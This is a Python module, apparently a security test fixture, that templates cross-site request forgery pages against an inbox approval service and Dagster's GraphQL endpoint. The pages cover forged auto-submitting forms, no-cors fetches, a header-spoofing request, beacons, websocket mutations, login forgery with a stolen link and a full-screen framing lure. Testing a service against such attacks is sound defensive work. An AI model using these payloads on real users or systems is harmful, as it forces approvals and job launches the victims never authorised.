"""Pages that other sites could show to somebody who is signed in to the inbox, and what each of them tries."""

from string import Template

# $url is the record's page, $base the server, $token the form that its approver has before their eyes (stolen), $guess
# one that is made up, $link somebody else's unused login link, $launch a mutation of Dagster's that starts a run.
_FIELDS = '<input name="form" value="$token"><input name="decision" value="approve">'
_SEND = "<script>document.forms[0].submit()</script>"
# A frame of another process sends its form only when the browser's driver is certain to hear of it.
_SEND_LATER = "<script>setTimeout(() => document.forms[0].submit(), 2000)</script>"
_FORM = f'<form method="post" action="$url">{_FIELDS}</form>{_SEND}'
_BODY = "new URLSearchParams({form: '$token', decision: 'approve'})"
_QUERY = "$url?form=$token&decision=approve"
_GRAPHQL = "$base/graphql"
_POST = "method: 'POST', credentials: 'include'"

DECISIONS = {
    "form": _FORM,
    "form without a token": f'<form method="post" action="$url"><input name="decision" value="approve"></form>{_SEND}',
    "form with a guessed token": _FORM.replace("$token", "$guess"),
    "form that hides where it is from": f'<meta name="referrer" content="no-referrer">{_FORM}',
    "form of several parts": _FORM.replace("<form ", '<form enctype="multipart/form-data" '),
    "form as plain text": _FORM.replace("<form ", '<form enctype="text/plain" '),
    "form into a new window": _FORM.replace("<form ", '<form target="_blank" '),
    "form in a frame without origin": "<iframe sandbox='allow-scripts allow-forms' "
    f"srcdoc='{_FORM.replace(_SEND, _SEND_LATER)}'></iframe>",
    "form with the decision in its query": _FORM.replace('action="$url"', f'action="{_QUERY}&_method=POST"'),
    "form of a GET": _FORM.replace('method="post"', 'method="get"'),
    "fetch": f"<script>fetch('$url', {{{_POST}, mode: 'no-cors', body: {_BODY}}})</script>",
    "fetch that asks for leave": f"<script>fetch('$url', {{{_POST}, "
    f"headers: {{'X-Requested-With': 'driptune', 'X-Forwarded-User': 'mara'}}, body: {_BODY}}})</script>",
    "fetch with PUT": f"<script>fetch('$url', {{method: 'PUT', credentials: 'include', body: {_BODY}}})</script>",
    "beacon": f"<script>navigator.sendBeacon('$url', {_BODY})</script>",
    "image": f'<img src="{_QUERY}">',
    "script": f'<script src="{_QUERY}"></script>',
    "link": f"<script>location = '{_QUERY}'</script>",
    "window that is scripted": "<script>const opened = window.open('$url'); setInterval(() => "
    "opened.document.querySelector('button').click(), 50)</script>",
    "signing in as somebody else": '<form method="post" action="$base/inbox/login"><input name="token" value="$link">'
    f"</form>{_SEND}",
}

LAUNCHES = {
    "mutation as plain text": f"<script>fetch('{_GRAPHQL}', {{{_POST}, mode: 'no-cors', "
    "headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({query: `$launch`})})</script>",
    "mutation as a form": f"<form method='post' action='{_GRAPHQL}'><input name='query' value='$launch'></form>{_SEND}",
    "mutation of several parts": "<script>const parts = new FormData(); "
    "parts.append('operations', JSON.stringify({query: `$launch`})); parts.append('map', '{}'); "
    f"fetch('{_GRAPHQL}', {{{_POST}, mode: 'no-cors', body: parts}})</script>",
    "mutation as JSON": f"<script>fetch('{_GRAPHQL}', {{{_POST}, "
    "headers: {'Content-Type': 'application/json'}, body: JSON.stringify({query: `$launch`})})</script>",
    "mutation in a query": f"<script>new Image().src = '{_GRAPHQL}?query=' + encodeURIComponent(`$launch`)</script>",
    "mutation in the query of a form": "<form method='post' action=''></form><script>const form = document.forms[0]; "
    f"form.action = '{_GRAPHQL}?query=' + encodeURIComponent(`$launch`); form.submit()</script>",
    "mutation over a websocket": "<script>const socket = new WebSocket('$base/graphql'.replace('http', 'ws'), "
    "'graphql-ws'); socket.onopen = () => { socket.send(JSON.stringify({type: 'connection_init', payload: {}})); "
    "socket.send(JSON.stringify({id: '1', type: 'start', payload: {query: `$launch`}})); }</script>",
    "report of an asset": f"<form method='post' action='$base/report_asset_materialization/forged'></form>{_SEND}",
}

FRAME = '<iframe src="$framed" style="position: fixed; inset: 0; width: 100%; height: 100%; border: 0"></iframe>'


def filled(page: str, **values: str) -> str:
    """The page with what it needs to know of its victim."""
    return Template(f"<!doctype html><title>You have won</title><body>{page}</body>").substitute(values)
